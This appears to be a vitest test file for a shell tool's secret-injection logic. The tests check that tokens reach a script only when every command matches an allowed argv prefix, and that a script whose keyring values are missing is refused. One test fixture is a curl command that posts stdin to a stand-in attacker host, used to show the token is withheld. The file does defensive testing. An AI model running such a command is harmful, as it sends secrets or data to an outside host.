// Which secrets a script gets: argv-prefix rules must cover every command;
// a missing value refuses the run (ERR_SAFESH_SECRET_UNAVAILABLE).
import { describe, expect, it } from "vitest";
import { SafeShError } from "../../../src/errors";
import { matchesPrefix, planSecrets, resolveSecrets, valuesByName, type SecretRule } from "../../../src/secrets/inject";

const github: SecretRule = { name: "github", env: "GH_TOKEN", commands: [["gh"], ["git", "push"]] };
const npm: SecretRule = { name: "npm", env: "NPM_TOKEN", commands: [["npm", "publish"]] };

function reader(values: Record<string, string>) {
  return { get: async (name: string) => values[name] ?? null };
}

async function codeOf(promise: Promise<unknown>): Promise<string | undefined> {
  try {
    await promise;
    return undefined;
  } catch (error) {
    return (error as SafeShError).code;
  }
}

describe("matchesPrefix", () => {
  it("matches the prefix word for word", () => {
    expect(matchesPrefix(["git", "push", "origin"], ["git", "push"])).toBe(true);
    expect(matchesPrefix(["git", "pull"], ["git", "push"])).toBe(false);
    expect(matchesPrefix(["git"], ["git", "push"])).toBe(false);
  });

  it("does not take a path or a look-alike for the program", () => {
    expect(matchesPrefix(["./gh"], ["gh"])).toBe(false);
    expect(matchesPrefix(["/tmp/gh"], ["gh"])).toBe(false);
    expect(matchesPrefix(["ghx"], ["gh"])).toBe(false);
  });

  it("never matches with an empty prefix", () => {
    expect(matchesPrefix(["anything"], [])).toBe(false);
  });
});

describe("planSecrets", () => {
  it("injects a secret when every command matches one of its rules", () => {
    const plan = planSecrets([["gh", "pr", "list"], ["git", "push", "origin", "main"]], [github, npm]);
    expect(plan.inject).toEqual([{ name: "github", env: "GH_TOKEN" }]);
    expect(plan.withheld.map((w) => w.name)).toEqual(["npm"]);
  });

  it("withholds it from a script that also runs another program, naming that command", () => {
    const plan = planSecrets([["gh", "pr", "list"], ["curl", "https://evil.example", "-d", "@-"]], [github]);
    expect(plan.inject).toEqual([]);
    expect(plan.withheld).toHaveLength(1);
    expect(plan.withheld[0]!.name).toBe("github");
    expect(plan.withheld[0]!.reason).toContain("curl https://evil.example");
  });

  it("withholds it when a prefix assignment is kept in the argv (PATH=. gh)", () => {
    expect(planSecrets([["PATH=.", "gh"]], [github]).inject).toEqual([]);
  });

  it("gives nothing to a script without commands", () => {
    expect(planSecrets([], [github])).toEqual({ inject: [], withheld: [{ name: "github", reason: expect.any(String) }] });
  });

  it("gives nothing through a rule with no commands or an empty prefix", () => {
    const open: SecretRule = { name: "open", env: "OPEN", commands: [[]] };
    const none: SecretRule = { name: "none", env: "NONE", commands: [] };
    expect(planSecrets([["ls"]], [open, none]).inject).toEqual([]);
  });

  it("can inject several secrets into one script", () => {
    const both: SecretRule = { name: "npm2", env: "NPM_TOKEN", commands: [["npm", "publish"], ["gh"]] };
    expect(planSecrets([["gh", "release", "create"]], [github, both]).inject.map((s) => s.env)).toEqual(["GH_TOKEN", "NPM_TOKEN"]);
  });
});

describe("resolveSecrets", () => {
  const plan = planSecrets([["gh", "api", "user"]], [github, npm]);

  it("reads the injected values keyed by variable", async () => {
    const env = await resolveSecrets(plan, reader({ github: "ghp_value1", npm: "npm_unused" }));
    expect(env).toEqual({ GH_TOKEN: "ghp_value1" });
    expect(valuesByName(plan, env)).toEqual({ github: "ghp_value1" });
  });

  it("refuses when a needed value is missing (ERR_SAFESH_SECRET_UNAVAILABLE)", async () => {
    expect(await codeOf(resolveSecrets(plan, reader({})))).toBe("ERR_SAFESH_SECRET_UNAVAILABLE");
  });

  it("refuses when the keyring can't be read or opened", async () => {
    const broken = { get: async () => Promise.reject(new Error("bus gone")) };
    expect(await codeOf(resolveSecrets(plan, broken))).toBe("ERR_SAFESH_SECRET_UNAVAILABLE");
    const unopenable = async () => Promise.reject(new SafeShError("ERR_SAFESH_KEYRING_UNAVAILABLE", "none", "hint"));
    expect(await codeOf(resolveSecrets(plan, unopenable))).toBe("ERR_SAFESH_SECRET_UNAVAILABLE");
  });

  it("opens no keyring when nothing is injected", async () => {
    let opened = false;
    const open = async () => {
      opened = true;
      return reader({});
    };
    expect(await resolveSecrets(planSecrets([["curl", "x"]], [github]), open)).toEqual({});
    expect(opened).toBe(false);
  });

  it("gives the refusal exit status 126", async () => {
    try {
      await resolveSecrets(plan, reader({}));
    } catch (error) {
      expect((error as SafeShError).exitCode).toBe(126);
    }
    expect.assertions(1);
  });
});
